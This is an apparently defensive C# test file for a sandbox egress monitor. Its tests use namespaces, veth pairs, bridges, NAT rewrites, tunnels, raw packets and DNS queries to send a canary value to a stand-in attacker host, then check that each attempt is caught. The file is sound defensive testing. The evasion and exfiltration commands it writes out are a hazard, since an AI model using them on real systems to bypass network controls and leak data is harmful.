namespace Sallyport.Kernel.Tests;

/// <summary>Technique N14 and HARDENING rule 4: the way changes after the verdict.</summary>
public sealed class WayTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    /// <summary>A namespace $p of the job's own behind a veth, with the client's namespace as its router.</summary>
    private const string OwnNamespace =
        """
        unshare --net sleep 30 & p=$!
        until [ "$(readlink /proc/$p/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do :; done
        trap 'kill $p; ip link del in0 2>/dev/null || true' EXIT
        ip link add in0 address 02:00:00:00:01:01 type veth peer name in1 netns $p
        echo 1 > /proc/sys/net/ipv6/conf/in0/disable_ipv6
        ip addr add 10.77.0.1/24 dev in0 && ip link set in0 up
        ip neigh add 10.77.0.2 lladdr 02:00:00:00:01:02 dev in0 nud permanent
        nsenter -t $p -n sh -ec "echo 1 > /proc/sys/net/ipv6/conf/in1/disable_ipv6"
        nsenter -t $p -n ip link set in1 address 02:00:00:00:01:02
        nsenter -t $p -n sh -ec "ip link set lo up; ip addr add 10.77.0.2/24 dev in1; ip link set in1 up"
        nsenter -t $p -n ip route add default via 10.77.0.1
        nsenter -t $p -n ip neigh add 10.77.0.1 lladdr 02:00:00:00:01:01 dev in1
        echo 1 > /proc/sys/net/ipv4/ip_forward
        """;

    /// <summary>The same over IPv6.</summary>
    private const string OwnNamespace6 =
        """
        unshare --net sleep 30 & p=$!
        until [ "$(readlink /proc/$p/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do :; done
        trap 'kill $p; ip link del in0 2>/dev/null || true; echo 0 > /proc/sys/net/ipv6/conf/all/forwarding' EXIT
        ip link add in0 address 02:00:00:00:01:01 type veth peer name in1 netns $p
        ip link set in0 addrgenmode none
        nsenter -t $p -n ip link set in1 address 02:00:00:00:01:02 addrgenmode none
        ip addr add 2001:db8:77::1/64 dev in0 nodad && ip link set in0 up
        ip neigh add 2001:db8:77::2 lladdr 02:00:00:00:01:02 dev in0 nud permanent
        nsenter -t $p -n sh -ec "ip link set lo up; ip addr add 2001:db8:77::2/64 dev in1 nodad; ip link set in1 up"
        nsenter -t $p -n ip route add default via 2001:db8:77::1
        nsenter -t $p -n ip neigh add 2001:db8:77::1 lladdr 02:00:00:00:01:01 dev in1
        echo 1 > /proc/sys/net/ipv6/conf/all/forwarding
        """;

    /// <summary>The address of the far end.</summary>
    private static string Within(string to) => to == Attacker6 ? "2001:db8:77::2" : "10.77.0.2";

    [Theory]
    [EveryMode(Attacker, Attacker6)]
    public Task A_network_namespace_of_the_jobs_own_is_no_way_out(LabMode mode, string to) => ProveAsync(mode, new Attack
    {
        Command = Script(
            to == Attacker6 ? OwnNamespace6 : OwnNamespace,
            $"nsenter -t $p -n {Program("udp")} sendto {to} 5300 {Canary} || echo refused"),
        Row = Row.Connection("udp", 5300, to),
        Reasons = ["no-rule"],
        Exe = "udp",
        Silent = (to, 5300),
    });

    [Theory]
    [EveryMode(Attacker, Attacker6)]
    public Task A_frame_that_comes_out_of_the_jobs_own_namespace_is_judged_at_the_uplink(LabMode mode, string to) =>
        ProveAsync(mode, new Attack
        {
            Command = Script(
                to == Attacker6 ? OwnNamespace6 : OwnNamespace,
                $"nsenter -t $p -n {Program("raw")} packet in1 {Within(to)} {to} 5300 {Canary}"
                    + " 02:00:00:00:01:01 || echo refused"),
            Row = Row.Connection("udp", 5300, to),
            Reasons = ["no-rule", "packet-socket"],
            Exe = null,
            Silent = (to, 5300),
        });

    /// <summary>
    /// As above, but the host's end of the veth has no address, and nothing but who made the pair says whose it is.
    /// </summary>
    private const string Unnumbered =
        """
        unshare --net sleep 30 & p=$!
        until [ "$(readlink /proc/$p/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do :; done
        trap 'kill $p; ip link del in0 2>/dev/null || true; echo 0 > /proc/sys/net/ipv6/conf/all/forwarding' EXIT
        echo 1 > /proc/sys/net/ipv4/ip_forward
        echo 1 > /proc/sys/net/ipv6/conf/all/forwarding
        echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter
        ip link add in0 address 02:00:00:00:01:01 type veth peer name in1 netns $p
        ip link set in0 addrgenmode none
        nsenter -t $p -n ip link set in1 addrgenmode none
        echo 0 > /proc/sys/net/ipv4/conf/in0/rp_filter
        nsenter -t $p -n ip link set in1 up
        """;

    /// <summary>The far end carries nothing before the kernel has looked at its link, which it does once a second at worst.</summary>
    private const string UntilUp = "until nsenter -t $p -n ip link show in1 | grep -q 'state UP'; do sleep 0.02; done";

    [Theory]
    [EveryMode(Attacker, Attacker6)]
    public Task A_frame_from_a_veth_without_an_address_is_judged_at_the_uplink(LabMode mode, string to) =>
        ProveAsync(mode, new Attack
        {
            Command = Script(
                Unnumbered,
                "ip link set in0 up",
                UntilUp,
                $"nsenter -t $p -n {Program("raw")} packet in1 {Within(to)} {to} 5300 {Canary} 02:00:00:00:01:01"),
            Row = Row.Connection("udp", 5300, to),
            Reasons = ["no-rule"],
            Exe = null,
            Silent = (to, 5300),
        });

    [Theory]
    [EveryMode(Attacker, Attacker6)]
    public Task A_frame_over_a_bridge_of_the_jobs_own_is_judged_at_the_uplink(LabMode mode, string to) =>
        ProveAsync(mode, new Attack
        {
            Command = Script(
                Unnumbered,
                "ip link add br7 address 02:00:00:00:01:07 type bridge mcast_snooping 0 || exit 3",
                "trap 'kill $p; ip link del in0 2>/dev/null || true; ip link del br7; echo 0 > /proc/sys/net/ipv6/conf/all/forwarding' EXIT",
                "ip link set br7 addrgenmode none",
                "echo 0 > /proc/sys/net/ipv4/conf/br7/rp_filter",
                "ip link set in0 master br7 up && ip link set br7 up",
                // A port of a bridge forwards when the bridge has heard that it may.
                "until ip -d link show in0 | grep -q 'state forwarding'; do :; done",
                UntilUp,
                $"nsenter -t $p -n {Program("raw")} packet in1 {Within(to)} {to} 5300 {Canary} 02:00:00:00:01:07"),
            Row = Row.Connection("udp", 5300, to),
            Reasons = ["no-rule"],
            Exe = null,
            Silent = (to, 5300),
        });

    [Theory]
    [EveryMode]
    public Task A_packet_that_a_program_writes_to_a_tun_device_is_judged_at_the_uplink(LabMode mode) =>
        ProveAsync(mode, PacketFromATun());

    /// <summary>Nobody can put it together; whoever listens there reads it all the same.</summary>
    [Theory]
    [EveryMode]
    public Task A_fragment_without_a_first_one_is_judged_by_its_address(LabMode mode) =>
        ProveAsync(mode, PacketFromATun($"tun-fragment 10.77.0.2 {Attacker} 5300 {Canary}"));

    [Theory]
    [EveryMode]
    public Task A_packet_too_short_for_its_protocol_is_judged_by_its_address(LabMode mode) =>
        ProveAsync(mode, PacketFromATun($"tun-short 10.77.0.2 {Attacker} {Canary}"));

    [Theory]
    [EveryMode(Attacker, Attacker6)]
    public Task A_destination_rewritten_by_NAT_is_judged_as_it_leaves(LabMode mode, string to)
    {
        Assert.SkipUnless(File.Exists("/usr/sbin/nft"), "nft (package nftables) is not installed");
        var (family, allowed, at) = to == Attacker6 ? ("ip6", Allowed6, $"[{to}]") : ("ip", Allowed, to);
        return ProveAsync(mode, new Attack
        {
            Command = Script(
                $"nft add table {family} lab",
                $"trap 'nft delete table {family} lab' EXIT",
                $"nft add chain {family} lab out '{{ type nat hook output priority -100; }}'",
                $"nft add rule {family} lab out {family} daddr {allowed} tcp dport 4443 dnat to {at}:4443",
                $"{Program("tcp")} connect {allowed} 4443 {Canary} || echo refused") with
            {
                Allow = [At("tcp", allowed, "4443")],
            },
            Row = Row.Connection("tcp", 4443, to),
            Reasons = ["rewritten", "no-rule"],
            Exe = "tcp",
            Silent = (to, 4443),
        });
    }

    [Theory]
    [EveryMode(Attacker, Attacker6)]
    public Task A_destination_rewritten_on_the_way_through_the_machine_is_judged_as_it_leaves(LabMode mode, string to)
    {
        Assert.SkipUnless(File.Exists("/usr/sbin/nft"), "nft (package nftables) is not installed");
        var (family, allowed, at) = to == Attacker6 ? ("ip6", Allowed6, $"[{to}]") : ("ip", Allowed, to);
        return ProveAsync(mode, new Attack
        {
            Command = Script(
                to == Attacker6 ? OwnNamespace6 : OwnNamespace,
                $"nft add table {family} lab",
                $"trap 'kill $p; ip link del in0 2>/dev/null || true; nft delete table {family} lab; echo 0 > /proc/sys/net/ipv6/conf/all/forwarding' EXIT",
                $"nft add chain {family} lab in '{{ type nat hook prerouting priority -100; }}'",
                $"nft add rule {family} lab in iifname in0 {family} daddr {allowed} udp dport 5300 dnat to {at}:5300",
                $"nsenter -t $p -n {Program("udp")} sendto {allowed} 5300 {Canary}") with
            {
                Allow = [At("udp", allowed, "5300")],
            },
            Row = Row.Connection("udp", 5300, to),
            Reasons = ["rewritten", "no-rule"],
            Exe = null,
            Silent = (to, 5300),
        });
    }

    [Theory]
    [EveryMode]
    public Task A_routing_header_in_a_packet_from_a_tun_device_leads_nowhere(LabMode mode) => ProveAsync(mode, new Attack
    {
        Command = Script(
            "echo 1 > /proc/sys/net/ipv6/conf/all/forwarding",
            "trap 'echo 0 > /proc/sys/net/ipv6/conf/all/forwarding' EXIT",
            $"{Program("raw")} tun-route 2001:db8:77::2 {Allowed6} {Attacker6} 5300 {Canary}") with
        {
            Allow = [$"udp://[{Allowed6}]:5300"],
        },
        Row = Row.Connection("udp", 5300, Allowed6),
        Reasons = ["ip-options"],
        Exe = null,
        Silent = (Allowed6, 5300),
    });

    [Theory]
    [EveryMode(Attacker, Attacker6)]
    public Task A_tunnel_is_judged_by_its_outer_header(LabMode mode, string to) => ProveAsync(mode, new Attack
    {
        Command = Script(
            $"ip link add vx0 type vxlan id 7 remote {to} dstport 4789 dev lab0 || exit 3",
            "trap 'ip link del vx0' EXIT",
            "echo 1 > /proc/sys/net/ipv6/conf/vx0/disable_ipv6",
            "ip addr add 198.51.100.241/29 dev vx0 && ip link set vx0 up",
            "ip neigh add 198.51.100.242 lladdr 02:00:00:00:00:02 dev vx0",
            $"{Program("udp")} sendto 198.51.100.242 9 {Canary} || echo refused") with
        {
            Allow = ["udp://198.51.100.242:9"],
        },
        Row = Row.Connection("udp", 4789, to),
        Reasons = ["rewritten", "no-rule"],
        Exe = null,
        Silent = (to, 4789),
    });

    /// <summary>
    /// A namespace $p of the job's own with a second device on the wire of the uplink, which is on the network as a machine of its own.
    /// </summary>
    private const string BesideTheUplink =
        """
        unshare --net sleep 30 & p=$!
        until [ "$(readlink /proc/$p/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do :; done
        trap 'kill $p' EXIT
        ip link add link lab0 name mac0 address 02:00:00:00:02:02 netns $p type macvlan mode bridge || exit 3
        nsenter -t $p -n sh -ec "echo 1 > /proc/sys/net/ipv6/conf/mac0/disable_ipv6"
        nsenter -t $p -n sh -ec "ip link set lo up; ip addr add 198.51.100.3/24 dev mac0; ip link set mac0 up"
        for a in 198.51.100.66 198.51.100.53 198.51.100.10; do
            nsenter -t $p -n ip neigh add $a lladdr 02:00:00:00:00:01 dev mac0
        done
        """;

    [Theory]
    [EveryMode("datagram", "frame")]
    public Task A_device_of_the_jobs_own_on_the_uplinks_wire_is_no_way_out(LabMode mode, string how) => ProveAsync(mode, new Attack
    {
        Command = Script(
            BesideTheUplink,
            how == "datagram"
                ? $"nsenter -t $p -n {Program("udp")} sendto {Attacker} 5300 {Canary} || echo refused"
                : $"nsenter -t $p -n {Program("raw")} packet mac0 198.51.100.3 {Attacker} 5300 {Canary} 02:00:00:00:00:01 || echo refused"),
        Row = Row.Connection("udp", 5300, Attacker),
        Reasons = ["no-rule", "packet-socket"],
        Exe = how == "datagram" ? "udp" : null,
        Silent = (Attacker, 5300),
    });

    [Theory]
    [EveryMode]
    public Task A_question_by_a_device_of_the_jobs_own_is_judged(LabMode mode) => ProveAsync(mode, new Attack
    {
        Command = Script(
            BesideTheUplink,
            $"nsenter -t $p -n {Program("dns")} ask {Resolver} {Canary}.attacker.test A || echo refused"),
        Row = Row.Question($"{Canary}.attacker.test", "A"),
        Reasons = ["name"],
        Exe = "dns",
    });

    [Fact]
    public async Task What_the_kernel_says_in_a_new_namespace_is_not_the_jobs() => await PassAsync(Command(
        "unshare",
        "--net",
        "/bin/sh",
        "-ec",
        """
        ip link add in0 type veth peer name in1
        ip link set in0 up && ip link set in1 up
        # The kernel's multicast reports (RFC 3810) have left by the time that the address is no longer tentative.
        until ip -6 addr show dev in0 | grep -q fe80 && ! ip -6 addr show dev in0 | grep -q tentative; do :; done
        """));

    [Fact]
    public async Task Traffic_between_the_jobs_own_namespaces_is_not_egress()
    {
        await PassAsync(Script(
            OwnNamespace,
            $"nsenter -t $p -n {Program("tcp")} listen 9200 {Canary} &",
            "until nsenter -t $p -n ss -ltn | grep -q :9200; do :; done",
            $"{Program("tcp")} connect 10.77.0.2 9200 hello"));
    }
}
